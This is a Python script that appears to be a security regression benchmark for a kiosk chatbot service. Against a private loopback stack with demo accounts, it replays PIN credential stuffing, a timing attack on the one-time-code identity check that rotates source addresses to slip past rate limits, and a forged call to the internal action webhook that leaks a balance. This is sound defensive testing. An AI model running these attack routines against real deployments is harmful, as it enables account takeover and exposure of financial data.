"""Replays the probe of issue 12 against a running stack on loopback and prints what an attacker gets.

  1. credential stuffing: one client makes new sessions and tries wrong PINs on the demo cards as fast as it
     can for --seconds; printed: tries sent, tries the accounts service actually checked, tries refused by a
     limit, and the checked tries per minute;
  2. one-time-code timing: the ID-last-6 answer timed with the right digits and with wrong ones (--samples
     each way, alternating, every sample from its own loopback address 127.0.0.x and its own session, so no
     limit interferes); printed: median, spread (p10-p90) and the difference of the medians;
  3. the forged action call: a hand-made POST to the custom-action webhook (kiosk_api) with next_action=
     action_show_balance and the sender id of a conversation that has just verified; printed: the HTTP status
     and whether the balance came back.

    .venv/bin/python benchmarks/replay_attacks.py                      # private stack (demo accounts) on free ports
    .venv/bin/python benchmarks/replay_attacks.py --api-url http://127.0.0.1:8000 --action-url http://127.0.0.1:8000/internal/actions/webhook

The private stack keeps every default limit except the minimum time between two codes for one card
(YIBAO_OTP_RESEND_SECONDS=0, and the per-card code limit raised), so that the timing phase measures codes
really being sent, as the probe did.
"""

from __future__ import annotations

import argparse
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
import uuid
from contextlib import ExitStack
from pathlib import Path
from typing import Any

import httpx

from accounts.importer import DEMO_CSV, AccountRow, read_csv
from yibao.settings import PROJECT_ROOT, get_settings
from yibao.stack import Ports, Stack

CHECKED = ("卡号或密码不正确", "身份核验成功")  # the accounts service compared the PIN
REFUSED = ("太频繁", "核验次数太多", "需等待", "暂停核验")  # a limit answered instead


class Patient:
    """One kiosk session, from one loopback source address."""

    def __init__(self, api_url: str, source: str = "127.0.0.1") -> None:
        transport = httpx.HTTPTransport(local_address=source)
        self.http = httpx.Client(base_url=api_url, timeout=120, transport=transport)
        created = self.http.post("/api/session", json={"channel": "kiosk"})
        self.status = created.status_code
        self.session_id = created.json().get("session_id") if created.status_code == 201 else None

    def say(self, text: str) -> tuple[int, str, float]:
        start = time.perf_counter()
        resp = self.http.post("/api/chat", json={"session_id": self.session_id, "message": text})
        elapsed = time.perf_counter() - start
        body = resp.json()
        shown = "\n".join(m["text"] for m in body.get("messages", [])) if resp.status_code == 200 else \
            str(body.get("error", {}).get("message", ""))
        return resp.status_code, shown, elapsed

    def close(self) -> None:
        self.http.close()


def credential_stuffing(api_url: str, rows: list[AccountRow], seconds: float) -> dict[str, Any]:
    sent = checked = refused = sessions_refused = 0
    start = time.monotonic()
    n = 0
    while time.monotonic() - start < seconds:
        patient = Patient(api_url)
        if patient.session_id is None:
            sessions_refused += 1
            patient.close()
            time.sleep(0.2)
            continue
        row = rows[n % len(rows)]
        patient.say("/check_balance")
        patient.say(row.card_number)
        for _ in range(3):
            n += 1
            status, shown, _ = patient.say(f"{(int(row.pin) + 1 + n) % 10**6:06d}")
            sent += 1
            if status == 200 and any(c in shown for c in CHECKED):  # first: the old text warned "…暂停核验…"
                checked += 1
            elif status == 429 or any(r in shown for r in REFUSED):
                refused += 1
                break
            if "请输入" not in shown and "密码" not in shown:
                break
        patient.close()
    minutes = (time.monotonic() - start) / 60
    return {"seconds": round(minutes * 60, 1), "tries_sent": sent, "tries_checked": checked,
            "tries_refused_by_a_limit": refused, "sessions_refused": sessions_refused,
            "checked_per_minute": round(checked / minutes, 1)}


def otp_timing(api_url: str, row: AccountRow, samples: int) -> dict[str, Any]:
    right: list[float] = []
    wrong: list[float] = []
    wrong_digits = "000000" if row.id_number[-6:] != "000000" else "111111"
    i = 0
    while (len(right) < samples or len(wrong) < samples) and i < 6 * samples:
        source = f"127.0.{1 + i // 250}.{2 + i % 250}"
        patient = Patient(api_url, source)
        patient.say("/forgot_pin")
        patient.say(row.card_number)
        is_right = i % 2 == 0
        status, shown, elapsed = patient.say(row.id_number[-6:] if is_right else wrong_digits)
        if status == 200 and "验证码" in shown:  # the code-request answer, not a limit's
            (right if is_right else wrong).append(elapsed * 1000)
        patient.close()
        i += 1

    def describe(values: list[float]) -> dict[str, float]:
        if len(values) < 2:
            return {"n": len(values)}
        deciles = statistics.quantiles(values, n=10)
        return {"n": len(values), "median_ms": round(statistics.median(values), 1),
                "p10_ms": round(deciles[0], 1), "p90_ms": round(deciles[-1], 1)}

    result = {"right_digits": describe(right), "wrong_digits": describe(wrong)}
    if len(right) >= 2 and len(wrong) >= 2:
        result["median_difference_ms"] = round(statistics.median(right) - statistics.median(wrong), 1)
    return result


def forged_action_call(api_url: str, action_url: str, row: AccountRow) -> dict[str, Any]:
    patient = Patient(api_url, "127.0.3.2")
    patient.say("/check_balance")
    patient.say(row.card_number)
    _, shown, _ = patient.say(row.pin)
    verified = f"{row.balance:,.2f}" in shown
    body = {"next_action": "action_show_balance", "sender_id": patient.session_id, "version": "3.6.21",
            "domain": {}, "tracker": {"sender_id": patient.session_id, "slots": {"balance_verified": True},
                                       "latest_message": {"text": "", "intent": {}, "entities": []},
                                       "events": [], "paused": False, "followup_action": None,
                                       "active_loop": {}, "latest_action_name": "action_listen"}}
    try:
        resp = httpx.post(action_url, json=body, timeout=60)
        status, leaked = resp.status_code, f"{float(row.balance):,.2f}" in resp.text
    except httpx.HTTPError as exc:
        status, leaked = f"no answer ({type(exc).__name__})", False
    patient.close()
    return {"verified_first": verified, "action_url": action_url, "status": status, "balance_returned": leaked}


def _private_stack(cleanup: ExitStack) -> Stack:
    data_dir = Path(cleanup.enter_context(tempfile.TemporaryDirectory(prefix="replay-")))
    shutil.copytree(get_settings().index_dir, data_dir / "index")
    env = {"YIBAO_DATA_DIR": str(data_dir), "YIBAO_TRACKER_DB": str(data_dir / "rasa_tracker.db"),
           "DATABASE_URL": f"sqlite:///{data_dir / 'yibao.db'}", "YIBAO_OTP_RESEND_SECONDS": "0",
           "YIBAO_LIMIT_OTP_PER_CARD": "10000/hour"}
    stack = Stack(ports=Ports.free(), log_dir=data_dir / "logs", env_overrides=env)
    print("starting a private stack on free ports ...", flush=True)
    stack.start(timeout=900)
    cleanup.callback(stack.stop)
    subprocess.run([sys.executable, "-m", "yibao.cli", "accounts", "demo"], cwd=PROJECT_ROOT,
                   env=stack.env(), check=True, capture_output=True)
    return stack


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--api-url", help="a running kiosk API with the demo accounts; default: a private stack")
    parser.add_argument("--action-url", help="the action endpoint to forge a call to (default: the stack's)")
    parser.add_argument("--seconds", type=float, default=45, help="how long the credential stuffing runs")
    parser.add_argument("--samples", type=int, default=20, help="timing samples each way (right / wrong digits)")
    parser.add_argument("--only", choices=["stuffing", "timing", "forged"], action="append",
                        help="run only these phases (repeatable); default: all three")
    args = parser.parse_args()
    rows = read_csv(DEMO_CSV)
    with ExitStack() as cleanup:
        if args.api_url:
            api_url, action_url = args.api_url, args.action_url or f"{args.api_url}/internal/actions/webhook"
        else:
            stack = _private_stack(cleanup)
            api_url, action_url = stack.api_url, args.action_url or stack.action_url
        run = uuid.uuid4().hex[:6]
        print(f"replay {run} against {api_url}", flush=True)
        phases = set(args.only or ["stuffing", "timing", "forged"])
        # Separate cards for each phase: the stuffing leaves its cards waiting (the progressive delay).
        if "stuffing" in phases:
            print("1. credential stuffing (one client):", credential_stuffing(api_url, rows[2:], args.seconds),
                  flush=True)
        if "timing" in phases:
            print("2. one-time-code request timing (ID-last-6 answer):", otp_timing(api_url, rows[0], args.samples),
                  flush=True)
        if "forged" in phases:
            print("3. forged action call:", forged_action_call(api_url, action_url, rows[1]), flush=True)


if __name__ == "__main__":
    main()
